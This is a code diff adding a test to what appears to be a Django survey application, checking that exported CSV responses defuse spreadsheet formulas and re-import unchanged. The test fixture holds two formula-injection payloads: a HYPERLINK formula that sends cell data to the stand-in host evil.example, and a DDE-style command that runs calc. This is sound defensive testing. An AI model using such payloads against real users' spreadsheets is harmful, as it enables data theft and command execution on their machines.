@@ -166,3 +166,34 @@ def test_unknown_survey_or_file_is_refused(un75, tmp_path):
         call_command("export_responses", survey="nope", output=str(tmp_path / "x.csv"))
     with pytest.raises(CommandError, match="does not exist"):
         call_command("import_responses", str(tmp_path / "none.csv"), survey="un75")
+
+
+MALLORY = {  # answers a spreadsheet would run as formulas if written as they are
+    "advice": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "world_2045": [{"option": "other", "text": "@SUM(1+1)*cmd|' /C calc'!A0"}],
+}
+
+
+def test_exports_defuse_formulas_for_spreadsheets_and_import_back_unchanged(un75, tmp_path):
+    plain = payload(answers={**MALLORY, "future_outlook": "better"})
+    apostrophe = payload(answers={"advice": "'quoted' on purpose", "future_outlook": "worse"})
+    subs = [actions.Submission(**plain), actions.Submission(**apostrophe)]
+    actions.submit_responses(survey=un75, submissions=subs, channel="api")
+    out = tmp_path / "un75.csv"
+    call_command("export_responses", survey="un75", output=str(out), stdout=io.StringIO())
+    rows = {row["future_outlook"]: row for row in read_csv(out)}
+    assert rows["better"]["advice"] == "'" + MALLORY["advice"]
+    assert rows["better"]["world_2045__other_text"].startswith("'@SUM")
+    assert rows["worse"]["advice"] == "''quoted' on purpose"
+    parquet = tmp_path / "un75.parquet"
+    call_command(
+        "export_responses",
+        survey="un75",
+        format="parquet",
+        output=str(parquet),
+        stdout=io.StringIO(),
+    )
+    assert MALLORY["advice"] in pq.read_table(parquet).column("advice").to_pylist()
+    report = io.StringIO()
+    call_command("import_responses", str(out), survey="un75", stdout=report)
+    assert report.getvalue().strip() == "0 created, 2 duplicate, 0 conflict, 0 invalid"
